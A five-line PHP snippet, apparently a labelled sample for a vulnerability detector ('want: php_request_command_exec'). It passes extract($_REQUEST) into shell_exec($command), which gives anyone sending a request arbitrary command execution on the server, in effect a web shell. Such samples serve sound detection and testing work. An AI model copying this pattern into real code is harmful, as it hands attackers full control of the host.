<?php
// extract() makes every request field a variable.
// want: php_request_command_exec
extract($_REQUEST);
shell_exec($command);
